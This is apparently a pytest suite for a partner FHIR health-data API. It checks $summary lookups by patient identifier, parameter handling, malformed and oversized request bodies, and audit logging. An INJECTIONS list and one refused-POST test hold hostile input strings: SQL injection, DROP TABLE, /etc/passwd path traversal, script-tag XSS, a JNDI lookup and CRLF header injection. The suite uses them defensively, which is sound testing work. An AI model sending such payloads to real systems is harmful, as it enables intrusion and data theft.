"""The partner FHIR API: $summary by identifier, parameters, and every kind of bad input."""

from __future__ import annotations

import json
import socket
import ssl
from urllib.parse import urlsplit

import pytest

from tests.partner_api.conftest import DUPONT, FR_INS_SYSTEM, INS, code_of, plain, stored_state


def parameters(**values) -> dict:
    out = []
    for name, value in values.items():
        if name == "identifier" and isinstance(value, dict):
            out.append({"name": name, "valueIdentifier": value})
        elif name in ("gender", "country", "language"):
            out.append({"name": name, "valueCode": value})
        elif name == "birthdate":
            out.append({"name": name, "valueDate": value})
        else:
            out.append({"name": name, "valueString": value})
    return {"resourceType": "Parameters", "parameter": out}


DUPONT_PARAMETERS = parameters(identifier={"system": FR_INS_SYSTEM, "value": INS}, family="Dupont", given="Marie",
                               birthdate="1984-05-12", gender="female")


def post_summary(session, base, body, content_type="application/fhir+json", **kwargs):
    data = body if isinstance(body, bytes | str) else json.dumps(body)
    return session.post(base + "/Patient/$summary", data=data, headers={"Content-Type": content_type, **kwargs.pop(
        "headers", {})}, timeout=15, **kwargs)


def test_post_summary_by_identifier(partner):
    resp = post_summary(partner.session(), partner.fhir, DUPONT_PARAMETERS, params={"language": "en"})
    assert resp.status_code == 200, resp.text
    doc = resp.json()
    assert doc["resourceType"] == "Bundle" and doc["type"] == "document"
    assert doc["entry"][0]["resource"]["resourceType"] == "Composition"
    assert resp.headers["Content-Language"] == "en"
    assert resp.headers["X-Terminology-Coverage"].startswith("codings=")


def test_post_summary_with_explicit_country_and_string_identifier(partner):
    body = parameters(identifier=f"{FR_INS_SYSTEM}|{INS}", country="FR", family="DUPONT", given="Marie",
                      birthdate="1984-05-12", gender="female", language="fr")
    resp = post_summary(partner.session(), partner.fhir, body)
    assert resp.status_code == 200, resp.text
    assert resp.headers["Content-Language"] == "fr"


def test_get_summary_by_identifier_same_as_post(partner):
    resp = partner.session().get(partner.fhir + "/Patient/$summary", params={**DUPONT, "language": "de"}, timeout=15)
    assert resp.status_code == 200, resp.text
    assert resp.json()["type"] == "document"


def test_summary_by_identifier_no_match_is_404(partner):
    body = parameters(identifier={"system": FR_INS_SYSTEM, "value": INS}, family="Martin", given="Marie",
                      birthdate="1984-05-12", gender="female")
    resp = post_summary(partner.session(), partner.fhir, body)
    assert resp.status_code == 404 and code_of(resp) == "UNKNOWN_PATIENT"


def test_summary_by_identifier_consent_refusal_is_403(partner):
    from tests.conftest import OPPOSED_INS

    body = parameters(identifier={"system": FR_INS_SYSTEM, "value": OPPOSED_INS}, family="Leroy", given="Jean",
                      birthdate="1970-02-13", gender="male")
    resp = post_summary(partner.session(), partner.fhir, body)
    assert resp.status_code == 403 and code_of(resp) == "ACCESS_REFUSED"
    assert "Leroy" not in resp.text


def test_summary_by_identifier_needs_a_country(partner):
    body = parameters(identifier=INS, family="Dupont", given="Marie", birthdate="1984-05-12", gender="female")
    resp = post_summary(partner.session(), partner.fhir, body)
    assert resp.status_code == 400 and code_of(resp) == "MISSING_PARAMETER"


# --- parameters ------------------------------------------------------------------------------------


def test_unknown_parameters_are_ignored_and_the_self_link_shows_what_was_used(partner):
    resp = partner.session().get(partner.fhir + "/Patient", params={"country": "FR", **DUPONT, "_count": "5",
                                                                    "address-city": "Paris"}, timeout=10)
    assert resp.status_code == 200, resp.text
    bundle = resp.json()
    assert bundle["total"] == 1
    self_link = next(link["url"] for link in bundle["link"] if link["relation"] == "self")
    assert "country=FR" in self_link and "_count" not in self_link and "address-city" not in self_link


def test_ignored_parameters_are_named_in_the_audit_records_of_both_countries(countries, partner):
    resp = partner.session().get(partner.fhir + "/Patient", params={"country": "FR", **DUPONT, "_count": "5",
                                                                    "address-city": "Paris"}, timeout=10)
    assert resp.status_code == 200, resp.text
    de, fr = countries.store("DE"), countries.store("FR")
    try:
        at_b = de.audit.by_request_id(resp.headers["X-Request-ID"])
        at_a = fr.audit.by_request_id(resp.headers["X-Request-ID"])
    finally:
        de.close()
        fr.close()
    assert [r.detail.get("ignored_parameters") for r in at_b] == [["_count", "address-city"]]
    assert at_a and all("ignored_parameters" not in r.detail for r in at_a)  # B passes on only the traits


def test_unknown_parameters_are_refused_with_prefer_strict(partner):
    resp = partner.session().get(partner.fhir + "/Patient", params={"country": "FR", **DUPONT, "_count": "5"},
                                 headers={"Prefer": "handling=strict"}, timeout=10)
    assert resp.status_code == 400 and code_of(resp) == "UNKNOWN_PARAMETER"
    assert "_count" in resp.json()["issue"][0]["diagnostics"]
    body = {**DUPONT_PARAMETERS, "parameter": [*DUPONT_PARAMETERS["parameter"], {"name": "onlyMe", "valueString": "x"}]}
    strict = post_summary(partner.session(), partner.fhir, body, headers={"Prefer": "handling=strict"})
    assert strict.status_code == 400 and code_of(strict) == "UNKNOWN_PARAMETER"
    lenient = post_summary(partner.session(), partner.fhir, body)
    assert lenient.status_code == 200


def test_repeated_parameter_is_refused(partner):
    resp = partner.session().get(partner.fhir + "/Patient", params=[("country", "FR"), ("family", "Dupont"),
                                                                    ("family", "Martin")], timeout=10)
    assert resp.status_code == 400 and code_of(resp) == "REPEATED_PARAMETER"


def test_format_other_than_json_is_406(partner):
    resp = partner.session().get(partner.fhir + "/Patient", params={"country": "FR", **DUPONT, "_format": "xml"},
                                 timeout=10)
    assert resp.status_code == 406 and code_of(resp) == "UNSUPPORTED_FORMAT"
    ok = plain(partner.running).get(partner.fhir + "/metadata", params={"_format": "json"}, timeout=10)
    assert ok.status_code == 200


def test_missing_country_is_400(partner):
    resp = partner.session().get(partner.fhir + "/Patient", params=DUPONT, timeout=10)
    assert resp.status_code == 400 and code_of(resp) == "MISSING_PARAMETER"


def test_wrong_method_is_405_with_allow(partner):
    session = partner.session()
    resp = session.delete(partner.fhir + "/Patient", timeout=10)
    assert resp.status_code == 405 and code_of(resp) == "METHOD_NOT_ALLOWED"
    assert resp.headers["Allow"] == "GET"
    put = session.put(partner.fhir + "/Patient/$summary", timeout=10)
    assert put.status_code == 405 and put.headers["Allow"] == "GET, POST"
    assert session.get(partner.fhir + "/Observation", timeout=10).status_code == 404


# --- bad input: a clear OperationOutcome, nothing stored changes -------------------------------------


INJECTIONS = [
    "' OR '1'='1", "1; DROP TABLE patients; --", "../../../../etc/passwd", "<script>alert(1)</script>",
    "${jndi:ldap://x.example/a}", "%00", "a\r\nX-Injected: 1", "\u0000", "\u202e", "🙂" * 70, "x" * 300,
    f"{FR_INS_SYSTEM}|{INS}' --", "urn:oid:1.2.250.1.213.1.4.8|' UNION SELECT * FROM clients --",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_attempts_in_identifiers(countries, partner, value):
    before = stored_state(countries)
    session = partner.session()
    search = session.get(partner.fhir + "/Patient", params={"country": "FR", **DUPONT, "identifier": value},
                         timeout=10)
    body = parameters(identifier=value, country="FR", family="Dupont", given="Marie", birthdate="1984-05-12",
                      gender="female")
    summary = post_summary(session, partner.fhir, body)
    by_id = session.get(partner.fhir + "/Patient/fr-" + value.replace("/", "%2F") + "/$summary", timeout=10)
    for resp in (search, summary, by_id):
        assert resp.status_code < 500, resp.text
        assert resp.headers["X-Request-ID"]
        assert "Traceback" not in resp.text and "sqlite" not in resp.text.lower()
        if resp.status_code == 200:  # a harmless value that simply matched no one
            assert resp.json()["total"] == 0
        else:
            assert resp.status_code in (400, 404, 422), resp.text
            assert code_of(resp)
    assert stored_state(countries) == before


@pytest.mark.parametrize("case, status, code", [
    ("wrong-content-type", 415, "UNSUPPORTED_MEDIA_TYPE"),
    ("form-body", 415, "UNSUPPORTED_MEDIA_TYPE"),
    ("malformed-json", 400, "MALFORMED_JSON"),
    ("empty-body", 400, "MALFORMED_JSON"),
    ("not-parameters", 422, "INVALID_PARAMETERS"),
    ("parameter-not-a-list", 422, "INVALID_PARAMETERS"),
    ("wrong-value-type", 422, "INVALID_PARAMETER_VALUE"),
    ("two-values", 422, "INVALID_PARAMETER_VALUE"),
    ("identifier-without-value", 422, "INVALID_PARAMETER_VALUE"),
    ("repeated", 400, "REPEATED_PARAMETER"),
    ("missing-identifier", 400, "MISSING_PARAMETER"),
    ("oversized", 413, "PAYLOAD_TOO_LARGE"),
    ("own-country", 400, "OWN_COUNTRY"),
    ("unknown-country", 404, "UNKNOWN_COUNTRY"),
    ("missing-trait", 400, "MISSING_TRAIT"),
])
def test_bad_bodies(countries, partner, case, status, code):
    before = stored_state(countries)
    good = DUPONT_PARAMETERS
    content_type = "application/fhir+json"
    body: object = good
    if case == "wrong-content-type":
        content_type = "text/plain"
    elif case == "form-body":
        content_type, body = "application/x-www-form-urlencoded", "identifier=1"
    elif case == "malformed-json":
        body = '{"resourceType": "Parameters", "parameter": [}'
    elif case == "empty-body":
        body = ""
    elif case == "not-parameters":
        body = {"resourceType": "Patient", "id": "x"}
    elif case == "parameter-not-a-list":
        body = {"resourceType": "Parameters", "parameter": {"name": "identifier"}}
    elif case == "wrong-value-type":
        body = parameters(family="Dupont") | {"parameter": [{"name": "identifier", "valueBoolean": True}]}
    elif case == "two-values":
        body = {"resourceType": "Parameters", "parameter": [{"name": "identifier", "valueString": INS,
                                                             "valueCode": INS}]}
    elif case == "identifier-without-value":
        body = {"resourceType": "Parameters", "parameter": [{"name": "identifier", "valueIdentifier": {
            "system": FR_INS_SYSTEM}}]}
    elif case == "repeated":
        body = {**good, "parameter": [*good["parameter"], {"name": "family", "valueString": "Martin"}]}
    elif case == "missing-identifier":
        body = parameters(country="FR", family="Dupont")
    elif case == "oversized":
        body = {**good, "parameter": [*good["parameter"], {"name": "padding", "valueString": "x" * 100_000}]}
    elif case == "own-country":
        body = parameters(identifier="X123456789", country="DE", family="Schmidt")
    elif case == "unknown-country":
        body = parameters(identifier="123", country="ZZ", family="Doe")
    elif case == "missing-trait":
        body = parameters(identifier={"system": FR_INS_SYSTEM, "value": INS}, family="Dupont")
    resp = post_summary(partner.session(), partner.fhir, body, content_type=content_type)
    assert resp.status_code == status, resp.text
    assert code_of(resp) == code
    assert resp.headers["Content-Type"].startswith("application/fhir+json")
    assert resp.headers["X-Request-ID"]
    assert "Traceback" not in resp.text
    assert stored_state(countries) == before


def test_every_response_has_a_request_id_and_no_stack_trace(countries, partner):
    session = partner.session()
    base = partner.base
    responses = [
        plain(countries).get(base + "/fhir/metadata", timeout=10),
        plain(countries).get(base + "/openapi.json", timeout=10),
        plain(countries).get(base + "/.well-known/smart-configuration", timeout=10),
        plain(countries).post(base + "/oauth/token", data="x", timeout=10),
        plain(countries).get(base + "/fhir/Patient", timeout=10),
        session.get(base + "/fhir/Patient/fr-x/$summary", params={"language": "tlh"}, timeout=10),
        session.get(base + "/fhir/nothing/here", timeout=10),
        session.patch(base + "/fhir/metadata", timeout=10),
    ]
    for resp in responses:
        assert len(resp.headers.get("X-Request-ID", "")) >= 8, resp.url
        assert "Traceback" not in resp.text and 'File "' not in resp.text


def audit_rows(running, code: str = "DE") -> int:
    store = running.store(code)
    try:
        return store.db.execute("SELECT count(*) FROM audit_events").fetchone()[0]
    finally:
        store.close()


def test_bad_posts_change_nothing_stored_but_the_audit_trail(countries, partner):
    """Every kind of refused POST, on every endpoint that takes a body: no table changes (row counts and
    contents of all of them), except the audit trail, which records the refusals."""
    session = partner.session()
    before, audited = stored_state(countries), audit_rows(countries)
    big = "x" * 70_000
    posts = [
        (partner.fhir + "/Patient/$summary", "text/plain", json.dumps(DUPONT_PARAMETERS)),
        (partner.fhir + "/Patient/$summary", "application/fhir+json", '{"resourceType": "Parameters", "parameter": ['),
        (partner.fhir + "/Patient/$summary", "application/fhir+json", json.dumps({"resourceType": "Patient"})),
        (partner.fhir + "/Patient/$summary", "application/fhir+json", json.dumps({**DUPONT_PARAMETERS, "x": big})),
        (partner.fhir + "/Patient/$summary", "application/fhir+json", json.dumps(parameters(
            identifier="1; DROP TABLE patients; --", country="FR", family="x' OR '1'='1", given="Marie",
            birthdate="1984-05-12", gender="female"))),
        (partner.fhir + "/CodeSystem/$lookup", "application/fhir+json", "[1, 2"),
        (partner.fhir + "/ValueSet/$expand", "application/xml", "<Parameters/>"),
        (partner.fhir + "/ConceptMap/$translate", "application/fhir+json", json.dumps({"parameter": big})),
        (partner.fhir + "/Patient", "application/fhir+json", "{}"),
        (partner.base + "/oauth/token", "application/json", json.dumps({"grant_type": "client_credentials"})),
        (partner.base + "/oauth/token", "application/x-www-form-urlencoded", "grant_type=client_credentials"
                                                                             "&client_id=x&client_secret=y"),
    ]
    for url, content_type, body in posts:
        resp = session.post(url, data=body, headers={"Content-Type": content_type}, timeout=15)
        assert 400 <= resp.status_code < 500, (url, resp.status_code, resp.text)
        assert resp.headers["X-Request-ID"] and "Traceback" not in resp.text
    assert stored_state(countries) == before
    # the refused calls of the Patient endpoints are audited (terminology refusals need no record)
    assert audit_rows(countries) - audited >= sum("/fhir/Patient" in url for url, _, _ in posts)


def test_a_refused_oversized_body_leaves_the_connection_usable(partner):
    """A 413 arrives whole while the client is still sending (the server reads the rest first), and the
    same keep-alive connection serves the next call."""
    session = partner.session()
    for size in (70_000, 200_000, 900_000):
        big = {**DUPONT_PARAMETERS, "parameter": [*DUPONT_PARAMETERS["parameter"], {"name": "x", "valueString":
                                                                                   "x" * size}]}
        refused = post_summary(session, partner.fhir, big)
        assert refused.status_code == 413 and code_of(refused) == "PAYLOAD_TOO_LARGE"
        assert refused.headers.get("Connection", "keep-alive").lower() == "keep-alive"
        after = session.get(partner.fhir + "/metadata", timeout=10)
        assert after.status_code == 200


def test_a_body_too_large_to_read_is_refused_and_the_connection_closed(partner):
    """Beyond what the server reads of a refused body, it answers at once, says Connection: close, and closes."""
    token = partner.token()
    host, port = urlsplit(partner.base).hostname, urlsplit(partner.base).port
    head = (f"POST /fhir/Patient/$summary HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: Bearer {token}\r\n"
            f"X-Clinician-Assertion: {partner.clinician_assertion()}\r\nContent-Type: application/fhir+json\r\n"
            f"Content-Length: {5 * 1024 * 1024}\r\n\r\n").encode()
    context = ssl.create_default_context(cafile=partner.running.ca("DE"))
    with socket.create_connection((host, port), timeout=10) as raw, context.wrap_socket(raw, server_hostname=host) as tls:
        tls.sendall(head)  # and not one byte of the announced body
        answer = b""
        while chunk := tls.recv(65536):  # until the server closes
            answer += chunk
    status, _, rest = answer.partition(b"\r\n")
    headers, _, body = rest.partition(b"\r\n\r\n")
    assert status.startswith(b"HTTP/1.1 413")
    assert b"connection: close" in headers.lower()
    assert json.loads(body)["issue"][0]["details"]["coding"][0]["code"] == "PAYLOAD_TOO_LARGE"


def test_terminology_operations_read_parameters_bodies_leniently(partner):
    """The terminology operations' own reading of FHIR Parameters (gateway.surfaces.fhir_params.operation_parameters):
    a valueCoding gives system and code, unknown parameters and value types are ignored; a body that is not
    a Parameters resource is a 400 INVALID_PARAMETERS, another media type a 415."""
    session = partner.session()
    url = partner.fhir + "/CodeSystem/$lookup"
    coding = {"resourceType": "Parameters", "parameter": [
        {"name": "coding", "valueCoding": {"system": "http://loinc.org", "code": "48765-2"}},
        {"name": "unknown", "valueInteger": 3}]}
    found = session.post(url, data=json.dumps(coding), headers={"Content-Type": "application/fhir+json"}, timeout=15)
    assert found.status_code == 200, found.text
    assert found.json()["parameter"][0] == {"name": "name", "valueString": "http://loinc.org"}
    as_strings = {"resourceType": "Parameters", "parameter": [{"name": "system", "valueUri": "http://loinc.org"},
                                                              {"name": "code", "valueCode": "48765-2"}]}
    same = session.post(url, data=json.dumps(as_strings), headers={"Content-Type": "application/json"}, timeout=15)
    assert same.status_code == 200 and same.json() == found.json()
    for body, content_type, status, code in [
        (json.dumps({"resourceType": "Patient"}), "application/fhir+json", 400, "INVALID_PARAMETERS"),
        ("[1, 2", "application/fhir+json", 400, "INVALID_PARAMETERS"),
        (json.dumps(coding), "text/plain", 415, "UNSUPPORTED_MEDIA_TYPE"),
    ]:
        refused = session.post(url, data=body, headers={"Content-Type": content_type}, timeout=15)
        assert (refused.status_code, code_of(refused)) == (status, code), refused.text


def test_terminology_operations_refuse_complex_values_and_repeated_parameters(partner):
    """A known parameter's value must be a primitive (a valueCoding under 'system' is not the text '{}'), and a
    known query parameter given twice is refused as on the rest of the partner API, not read as its first value."""
    session = partner.session()
    url = partner.fhir + "/CodeSystem/$lookup"
    for value in ({"valueCoding": {}}, {"valueQuantity": {"value": 1}}, {"valueDecimal": 1.5}):
        body = {"resourceType": "Parameters", "parameter": [{"name": "system", **value},
                                                            {"name": "code", "valueCode": "48765-2"}]}
        refused = session.post(url, data=json.dumps(body), headers={"Content-Type": "application/fhir+json"},
                               timeout=15)
        assert (refused.status_code, code_of(refused)) == (400, "INVALID_PARAMETERS"), refused.text
    repeated = session.get(url, params=[("system", "http://loinc.org"), ("code", "48765-2"), ("code", "10160-0")],
                           timeout=15)
    assert (repeated.status_code, code_of(repeated)) == (400, "REPEATED_PARAMETER"), repeated.text
    once = session.get(url, params={"system": "http://loinc.org", "code": "48765-2"}, timeout=15)
    assert once.status_code == 200, once.text
